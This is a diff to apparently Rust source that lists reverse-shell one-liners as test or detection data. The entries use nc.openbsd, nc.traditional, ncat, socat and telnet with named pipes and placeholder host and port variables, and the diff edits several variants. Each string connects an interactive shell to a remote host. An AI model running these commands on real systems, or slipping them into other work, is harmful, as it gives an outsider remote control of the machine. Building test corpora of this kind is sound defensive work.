@@ -139,7 +139,7 @@ const CONNECTED_LATER: [(&str, &[&str], &str); 4] = [
         "openbsd",
         &["nc.openbsd"],
         "mkfifo f g; exec 7<>f 8<>g; sh -i <&7 >&8 2>&1 7<&- 8<&- & echo $! >pid
-until [ -e go ]; do sleep 0.01; done; exec nc.openbsd $H $P <&8 >&7 7<&- 8<&-",
+until [ -e go ]; do sleep 0.01; done; exec nc.openbsd $H $P <g >f 7<&- 8<&-",
     ),
     (
         "socat",
@@ -151,7 +151,7 @@ until [ -e go ]; do sleep 0.01; done; socat TCP4:$H:$P STDIO <g >f; true",
         "ncat_through_other_opens",
         &["ncat"],
         "mkfifo f g; exec 7<>f 8<>g; sh -i <f >g 2>&1 7<&- 8<&- & echo $! >pid
-until [ -e go ]; do sleep 0.01; done; ncat $H $P <g >f; true",
+until [ -e go ]; do sleep 0.01; done; exec ncat $H $P <g >f 7<&- 8<&-",
     ),
     (
         "coprocess",
@@ -164,9 +164,9 @@ until [ -e go ]; do sleep 0.01; done; exec nc.traditional $H $P <&${COPROC[0]} >
 /// The connection is there before the shell.
 const CONNECTED_BEFORE: [(&str, &[&str], &str); 3] = [
     (
-        "openbsd",
-        &["nc.openbsd"],
-        "mkfifo f g; nc.openbsd $H $P 0<>g 1<>f & until [ -e go ]; do sleep 0.01; done; exec sh -i <f >g 2>&1",
+        "traditional",
+        &["nc.traditional"],
+        "mkfifo f g; nc.traditional $H $P 0<>g 1<>f & until [ -e go ]; do sleep 0.01; done; exec sh -i <f >g 2>&1",
     ),
     (
         "socat",
@@ -220,7 +220,7 @@ const TWO_CONNECTIONS: [(&str, &[&str], &str); 4] = [
     (
         "ncat",
         &["ncat"],
-        "tail -f /dev/null | ncat $H $P | sh 2>&1 | ncat $H $Q",
+        "ncat --recv-only $H $P | sh 2>&1 | ncat --send-only $H $Q",
     ),
     (
         "telnet",
